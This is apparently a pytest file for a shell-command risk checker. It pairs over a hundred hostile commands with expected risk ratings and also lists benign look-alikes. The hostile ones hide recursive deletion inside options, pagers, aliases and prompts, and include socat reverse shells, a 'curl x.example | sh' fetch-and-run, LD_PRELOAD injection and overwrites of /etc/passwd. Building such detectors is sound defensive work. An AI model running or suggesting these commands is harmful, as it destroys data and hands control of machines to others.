"""What hides in an option, a variable or another program's small language is found; its look-alikes are left alone."""

from __future__ import annotations

import pytest

from terma.risk import assess

# ⏎ stands for the end of a line, ⇥ for a tab.
MARKED = r"""
[[ -v 'a[$(rm -rf x)]' ]]                                              | medium | may run code that stands in brackets
[[ 'a[$(rm -rf x)]' -eq 1 ]]                                           | medium | may run code that stands in brackets
getopts a 'a[$(rm -rf x)]'                                             | medium | may run code that stands in brackets
print -v 'a[$(rm -rf x)]' x                                            | medium | may run code that stands in brackets
read x <<< 'a[$(rm -rf x)]'; ((x))                                     | medium | may run code that stands in brackets
compgen -W '$(rm -rf x)'                                               | high   | deletes files, recursively
PS4='$(rm -rf x)'; set -x                                              | high   | deletes files, recursively
RPROMPT='`rm -rf x`'                                                   | high   | deletes files, recursively
bind -x '"\C-t": rm -rf x'                                             | high   | deletes files, recursively
bind '"\C-t": "rm -rf x\n"'                                            | high   | deletes files, recursively
bindkey -s '^T' 'rm -rf x\n'                                           | high   | deletes files, recursively
ls; ${x:- } rm -rf x                                                   | high   | deletes files, recursively
enable -f ./x.so y                                                     | medium | loads code into the shell
hash -p /srv/x ls                                                    | medium | puts another program in the place of one
fc -s                                                                  | medium | runs a line of the history again
yes > fill                                                           | medium | fills a disk until nothing is left on it
find . -fprint0 list.bin                                               | medium | overwrites list.bin
sed 1e somefile                                                        | medium | runs lines of its input as commands
sed -e '1e rm -rf x' f                                                 | high   | deletes files, recursively
sed -n '/x/w out.txt' f                                                | medium | overwrites out.txt
sed 's/a/rm -rf x/e' f                                                 | high   | deletes files, recursively
sed -e 's/a/b/' -e '1e' f                                              | medium | runs lines of its input as commands
sed -n 'p;w/etc/passwd' f                                              | high   | overwrites the system file passwd
sed 's/x/y/w out.txt' f                                                | medium | overwrites out.txt
tar cf /dev/null --checkpoint=1 --checkpoint-action=exec=sh x          | medium | starts a shell inside a program
tar --to-command='rm -rf x' -xf a.tar                                  | high   | deletes files, recursively
tar xf a.tar --to-command=sh                                           | medium | starts a shell inside a program
tar xf a.tar -I 'sh -c "rm -rf x"'                                     | high   | deletes files, recursively
tar -xPf a.tar                                                         | medium | may write outside this directory
awk '{print | "sh"}' cmds                                              | medium | starts a shell inside a program
awk 'BEGIN{while(("rm -rf x" | getline l)>0);}'                        | high   | deletes files, recursively
vim -c '!rm -rf x' f                                                   | high   | deletes files, recursively
vim -es -c '%d|wq' f                                                   | medium | rewrites files in place
vim +'!rm x' f                                                         | medium | deletes files
ex -sc '%d|x' f                                                        | medium | rewrites files in place
ed -s f <<< $'1,$d\nw\nq'                                              | medium | rewrites files in place
emacs --batch --eval '(delete-directory "x" t)'                        | high   | deletes files, recursively
ssh -o ProxyCommand='rm -rf x' host                                    | high   | deletes files, recursively
ssh -o 'ProxyCommand=sh -c "rm -rf x"' host                            | high   | deletes files, recursively
ssh -oProxyCommand=rm host                                             | medium | deletes files
ssh -o PermitLocalCommand=yes -o LocalCommand='rm x' host              | medium | deletes files
git -c core.pager='rm -rf x' log                                       | high   | deletes files, recursively
git -c alias.x='!rm -rf y' x                                           | high   | deletes files, recursively
git -c core.fsmonitor='rm -rf x' status                                | high   | deletes files, recursively
git -c core.editor='rm' commit                                         | medium | deletes files
git config --global alias.st '!rm -rf x'                               | high   | deletes files, recursively
git clone -u 'sh -c "rm x"' a b                                        | medium | deletes files
git clone 'ext::sh -c rm% x' b                                         | medium | deletes files
lua -e 'os.execute("rm -rf x")'                                        | high   | deletes files, recursively
rsync -e 'sh -c "rm x"' a b:                                           | medium | deletes files
sqlite3 a.db '.shell rm x'                                             | medium | deletes files
psql -c '\! rm -rf x'                                                  | high   | deletes files, recursively
mv ~/* /tmp/gone/                                                      | high   | moves a system or home directory away
cpio -idu < a.cpio                                                     | medium | overwrites what is there
make -f - <<< $'all:\n\trm -rf x'                                      | high   | deletes files, recursively
cmake -E rm -rf x                                                      | high   | deletes files, recursively
less '+!rm x' f                                                        | medium | deletes files
man -P 'rm -rf x' ls                                                   | high   | deletes files, recursively
PAGER='rm -rf x' man ls                                                | high   | deletes files, recursively
GIT_SSH_COMMAND='rm x' git fetch                                       | medium | deletes files
LD_PRELOAD=./x.so ls                                                   | medium | loads code of its own into a program
rg --pre 'rm' x                                                        | medium | deletes files
socat TCP:h:1 EXEC:sh | high | hands a shell to another machine
socat - SYSTEM:'rm -rf x'                                              | high   | deletes files, recursively
expect -c 'spawn rm -rf x'                                             | high   | deletes files, recursively
gdb -batch -ex 'shell rm -rf x'                                        | high   | deletes files, recursively
split -b 1 f --filter='rm -rf x'                                       | high   | deletes files, recursively
zip a.zip f -T -TT 'rm x'                                              | medium | deletes files
pdsh -w h rm -rf x                                                     | high   | deletes files, recursively
npx rimraf dist                                                        | high   | deletes files, recursively
poetry env remove --all                                                | high   | removes an environment
sed '/x/e rm -f y' f                                                   | medium | deletes files
sed -Ei.bak 's/a/b/' f                                                 | medium | rewrites files in place
sed -ne 's/^/rm /ep' list                                              | medium | deletes files
tar --checkpoint=1 --checkpoint-action='exec=rm -rf ~' -cf x.tar .     | high   | deletes a whole home directory
tar -cf - . | ssh h 'tar -xf - -C /'                                   | medium | changes system files
awk '{ cmd = "rm " $1; system(cmd) }' list                             | medium | deletes files
awk '{print "rm " $1 | "sh"}' list                                     | medium | starts a shell inside a program
vim -c ':!rm -rf build' -c q                                           | high   | deletes files, recursively
vim -c 'silent !git push -f' f                                         | high   | overwrites history on the remote
vim -es -c '%s/a/b/g' -c 'wq' f                                        | medium | rewrites files in place
ssh -o 'LocalCommand=rm -rf x' -o PermitLocalCommand=yes h             | high   | deletes files, recursively
git -c core.editor='sh -c "rm -rf x"' commit                           | high   | deletes files, recursively
git -c alias.wipe='reset --hard' wipe                                  | high   | throws away uncommitted changes
git config core.sshCommand 'rm -rf x'                                  | high   | deletes files, recursively
git config --global core.pager '!rm -rf ~'                             | high   | deletes a whole home directory
git difftool -x 'rm' HEAD                                              | medium | deletes files
EDITOR='rm -f' crontab -e                                              | medium | deletes files
PROMPT_COMMAND='rm -rf x'                                              | high   | deletes files, recursively
export PROMPT_COMMAND='curl x.example | sh'                            | high   | runs what it downloads
perl -e '`rm -rf x`'                                                   | high   | deletes files, recursively
ruby -e '`rm -rf x`'                                                   | high   | deletes files, recursively
python3 - <<'EOF'⏎import shutil⏎shutil.rmtree("build")⏎EOF             | high   | deletes files, recursively
python3 -c "import subprocess; subprocess.call(['git','push','--force'])" | high   | overwrites history on the remote
python3 -c "import os; os.execvp('rm', ['rm','-rf','x'])"              | high   | deletes files, recursively
python3 -c "import pathlib; [p.rmdir() for p in pathlib.Path('.').iterdir()]" | medium | deletes files
node -e "require('child_process').execFileSync('rm', ['-rf','x'])"     | high   | deletes files, recursively
deno eval 'Deno.removeSync("x")'                                       | high   | deletes files, recursively
uv run python -c 'import shutil; shutil.rmtree("x")'                   | high   | deletes files, recursively
poetry run rm -rf dist                                                 | high   | deletes files, recursively
npm exec -- rimraf dist                                                | high   | deletes files, recursively
conda run -n x rm -rf y                                                | high   | deletes files, recursively
bundle exec rake db:drop                                               | high   | deletes a database
python manage.py flush --noinput                                       | high   | deletes what a database holds
rails db:drop                                                          | high   | deletes a database
php artisan migrate:fresh                                              | high   | deletes what a database holds
socat TCP-LISTEN:99,fork EXEC:/bin/bash | high | hands a shell to another machine
ncat -c 'rm -rf x' h 1                                                 | high   | deletes files, recursively
mysql -e 'system rm -rf x'                                             | high   | deletes files, recursively
psql -c "COPY t TO PROGRAM 'rm -rf x'"                                 | high   | deletes files, recursively
chmod 000 /etc/shadow                                                  | medium | takes every permission away
mv /etc/passwd /tmp                                                    | high | changes system files
cp /dev/null important.log                                             | medium | overwrites important.log
expect -c 'spawn bash; send "rm -rf x\r"'                              | high | starts a shell inside a program
emacs --batch --eval '(shell-command "rm -rf x")'                      | high   | deletes files, recursively
rsync -avze 'sh -c "rm x"' a h:                                        | medium | deletes files
hyperfine 'rm -rf x'                                                   | high   | deletes files, recursively
make -f /dev/stdin <<'EOF'⏎all:⏎⇥rm -rf x⏎EOF                          | high   | deletes files, recursively
less '+!rm -rf x' f                                                    | high   | deletes files, recursively
man --pager='rm -rf x' ls                                              | high   | deletes files, recursively
fzf --preview 'rm {}'                                                  | medium | deletes files
split --filter='rm $FILE' big                                          | medium | deletes files
cmake -E remove_directory build                                        | high   | deletes files, recursively
"""

LOOK_ALIKES = r"""
find . -name '*.tmp' -exec sh -c 'echo "$1"' _ {} \;
find . -type f -exec wc -l {} +
find . -execdir pwd \;
find . -name 'delete' -print
find . -name '-delete.txt' -ls
find . -exec grep -l delete {} +
find . -printf '%p\n'
find . -newer x -exec stat {} \;
find . -name '*rm*' | head
find . -exec bash -c 'basename "$1"' _ {} \;
find . -exec file {} +
find . -name "*.py" -exec python3 -m py_compile {} \;
sed 's/e/w/' f
sed -n '1p' f
sed -e '/we/d' f
sed '1d' f
sed 's/a/b/g;s/we/ew/' f
sed -n '/end/p' f
sed -E 's/(w)e/\1/' f
sed 's|w|e|' f
sed '/w file/d' f
sed -n '/where/,/when/p' f
sed 'y/we/ew/' f
sed 's/x/e /' f
sed '$!d' f
sed 5q f
sed = f
sed -f script.sed f
tar cf - x | gzip > /dev/null
tar --checkpoint=100 -czf out.tgz dir
tar --checkpoint-action=dot -czf out.tgz dir
tar -tvf a.tar
tar -xzf a.tgz -C dir
tar -I zstd -xf a.tar.zst
tar --use-compress-program=pigz -cf a.tgz d
tar --exclude=rm -cf a.tar .
tar xf a.tar.gz --strip-components=1
tar -I 'zstd -T0' -cf a.tar.zst d
awk '{print $2}' f
awk '/system/ {print}' f
awk 'BEGIN{system("date")}'
awk '{print | "sort"}' f
awk -F: '{print $1}' /etc/passwd
awk '{ "date" | getline d; print d }' f
awk 'NR==1{print "rm"}' f
awk '$1 == "system" { n++ } END { print n }' f
awk '{ if ($3 > 5) print $1 }' f
awk '{print "a" > "/dev/stderr"}' f
vim f
vim -c 'set number' f
vim +10 f
vim -R f
vim -d a b
nvim -c ':help'
vim '+/rm' f
ed f
emacs -nw f
emacs --batch --eval '(message "hi")'
ssh -o StrictHostKeyChecking=accept-new host
ssh -o ProxyCommand='nc %h %p' host
ssh -o ProxyCommand='ssh -W %h:%p jump' host
ssh -J jump host uptime
ssh -L 8080:localhost:80 host
ssh -p 22 host ls
git -c core.pager=cat log
git -c core.pager='less -R' log
git -c user.name=x commit -m y
git -c alias.st=status st
git -c color.ui=always diff
git config --global alias.st status
git config --global alias.lg '!git log --graph'
git clone https://x.example/a.git
git clone -b main url
git submodule foreach 'git status'
git submodule update --init
env
env FOO=1 ls
env -i bash --norc -c 'echo hi'
parallel echo ::: a b c
parallel -j4 gzip -k ::: a b
timeout 5 ping x.example
watch -n1 'ls -l'
watch 'ps aux | grep rm'
perl -e 'print "unlinked\n"'
perl -ne 'print if /x/' f
perl -pe 's/a/b/' f
perl -e 'print join(",", @ARGV)' rm unlink
perl -V
python -c 'print("rmtree")'
python3 -c 'import os; print(os.getcwd())'
python3 -c "import json,sys; print(json.load(sys.stdin)['x'])"
python3 -c "print(open('x').read())"
python3 -c "import subprocess; print(subprocess.run(['ls']))"
python3 -m http.server
python3 -m json.tool f
python3 -m venv .venv
python3 -c "import os; os.system('clear')"
ruby -e 'puts 1'
node -e "console.log(process.version)"
node -e "console.log(require('fs').readFileSync('x','utf8'))"
php -r 'echo 1;'
lua -e 'print(1)'
rsync -a a/ b/
rsync -an --delete a/ b/
rsync --dry-run --delete -a a/ b/
rsync -e 'ssh -p 22' -a a b:
rsync -av --exclude=delete a/ b/
psql -l
psql -c 'select count(*) from users'
psql -c "select 'delete from x'"
psql -c '\dt'
mysql -e 'SHOW TABLES'
mysql -e "select * from log where msg = 'drop table x'"
sqlite3 a.db '.schema'
sqlite3 a.db 'select * from drops'
sqlite3 a.db "select * from t where deleted = 1"
make
make -n clean
make test
cmake --build build
less +F log
less +/rm f
man -P cat ls
PAGER=cat man ls
GIT_PAGER=cat git log
FOO=rm ls
xargs -a list echo
rg --pre pdftotext x
eval 'echo rm'
nc -zv h 80
nc -l 1234 > /dev/null
socat - TCP:h:1
gdb -batch -ex bt core
split -b 1M f part.
npx prettier --check .
conda env list
ssh-keygen -l -f ~/.ssh/id_rsa.pub
ssh-keygen -F host
findmnt
export EDITOR=vim
export HISTFILE=/tmp/h.new
python3 - <<< 'print(1)'
find . -type d -exec ls -d {} +
find . -mtime +30 -exec sh -c 'file "$0"' {} \;
sed -n '/password/{p;q}' f
sed '/x/s/end/we/' f
sed -E 's/(write|exec)/[\1]/g' f
sed -ne 's/^/rm /p' list
sed 's#/w/e#/e/w#' f
sed 's/[/]e/x/' f
sed '/^$/d;s/^ *//' f
sed '1,/w/d' f
sed -e 'a\' -e 'e hello' f
sed ':a;N;$!ba;s/\n/ /g' f
sed -n '$=' f
sed 's/we/& e/2' f
sed '/start/,/end/{s/e/w/}' f
sed -n 's/.*w //p' f
sed 's/\/e/x/' f
sed 'y/e/w/' f
sed --expression='s/a/e/' f
tar --checkpoint=10 --checkpoint-action='echo=#%u' -cf x.tar .
tar -cf - . | ssh h 'tar -tf -'
tar -I pigz -cf a.tgz d
tar czPf x.tgz /etc/hosts
tar -xzf a.tgz -C /tmp/x
awk '{ print "rm " $1 }' list
awk '{ s += $1 } END { print s > "/dev/stdout" }' f
awk -v cmd=rm '{print cmd}' f
awk '/unlink|rmtree/ {print FILENAME}' *.py
awk '$1 > 3 && $2 < 4' f
awk 'BEGIN { "hostname" | getline h; print h }'
vim -c 'syntax on' -c 'set nu' f
vim -c '/write' f
vim -c '%s/a!b/c/' f
vim +/main f.c
vim -c 'call cursor(3,1)' f
vim -c ':!ls' f
ssh -o ConnectTimeout=5 h true
ssh -o 'ProxyCommand=cloudflared access ssh --hostname %h' h
git -c core.editor=vim commit
git -c core.sshCommand='ssh -i key' fetch
git -c alias.l='log --oneline' l
git -c http.proxy=x clone u
git config core.editor 'code --wait'
git config --global core.pager 'delta --dark'
git config --global credential.helper store
git config --get alias.wipe
git config user.name rm
git commit -c HEAD
git fetch --upload-pack /usr/bin/git-upload-pack
GIT_EDITOR=true git rebase --continue
EDITOR=nano crontab -e
EDITOR='code --wait' git commit
PAGER='less -R' man ls
export PAGER=less EDITOR=vim
FOO='rm -rf x' ls
MSG="rm -rf"; echo "$MSG"
LESSOPEN='|lesspipe %s' less f
env PATH=/x:$PATH ls
perl -ne 'print unless /unlink/' f
perl -e 'print "rm -rf\n"'
perl -lane 'print $F[0]' f
perl -pe 's/unlink/x/' f
ruby -ne 'puts $_ if /rm_rf/' f
ruby -e 'puts "rm -rf"'
ruby -e 'puts File.read("x")'
python3 - <<'EOF'⏎print("rm -rf")⏎EOF
python3 -c "print('os.remove')"
python3 -c "import subprocess; print(subprocess.check_output(['git','status']))"
python3 -c "with open('x','r') as f: print(f.read())"
python3 -c "import sys; sys.stdout.write('w')"
python3 -c "open('x', encoding='utf-8').read()"
python3 -c "d={'w':open('x')}; print(d['w'])"
python3 -c "import os; print(os.path.exists('w'))"
python3 grep_unlink.py --eval rmtree
python3 -m pytest -k rmtree
python3 -c "import shutil; print(shutil.which('rm'))"
node -e "console.log('rm -rf')"
node -e "require('child_process').execSync('ls')"
node -p "process.argv" rmSync
node --eval "1+1"
php -r 'echo system("ls");'
lua -e 'io.popen("ls")'
parallel 'wc -l {}' ::: a b
xargs -P4 -n1 echo < list
timeout 10 curl -s x
watch --interval 5 'docker ps'
uv run pytest
uv run python -m http.server
poetry run pytest
npm exec -- eslint .
npx eslint .
conda run -n x python --version
bundle exec rspec
bundle exec rake db:migrate:status
socat -V
socat TCP-LISTEN:99 -
ncat -l 99
mysql -e 'select * from system'
sqlite3 a.db <<< 'select 1;'
psql -c "select 'program ''rm'''"
psql -c '\d users'
python3 -c 'import os; print(os.getpid())'
eval "$(starship init bash)"
expect -v
emacs --batch --eval '(princ 1)'
gdb -p 123 -batch -ex 'bt'
gdb -ex 'break main' -ex run ./a
rsync -avze ssh a h:
rsync -avz -e 'ssh -i key' a h:
hyperfine 'ls'
hyperfine --warmup 3 'make test'
make -f other.mk
less +G f
man --pager=cat ls
fzf --preview 'bat {}'
split --filter='gzip > /dev/null' big
cmake -E make_directory build
cmake -B build -S .
ssh h <<< 'uptime'
nc -c h 1
uvx ruff check
x=$(date); echo $x
PS1='$ '
"""


def written(line: str) -> str:
    return line.strip().replace("⏎", "\n").replace("⇥", "\t")


def marked() -> list[tuple[str, str, str]]:
    rows = [line.rsplit(" | ", 2) for line in MARKED.strip().splitlines()]
    return [(written(line), level.strip(), reason.strip()) for line, level, reason in rows]


@pytest.mark.parametrize(("command", "level", "reason"), marked())
def test_what_another_program_carries_is_marked(command: str, level: str, reason: str) -> None:
    risk = assess(command)
    assert risk.level == level, risk.reasons
    assert any(said.endswith(reason) for said in risk.reasons), risk.reasons


@pytest.mark.parametrize("command", [written(line) for line in LOOK_ALIKES.strip().splitlines()])
def test_what_only_looks_like_it_is_left_alone(command: str) -> None:
    risk = assess(command)
    assert (risk.level, risk.reasons) == ("low", ())
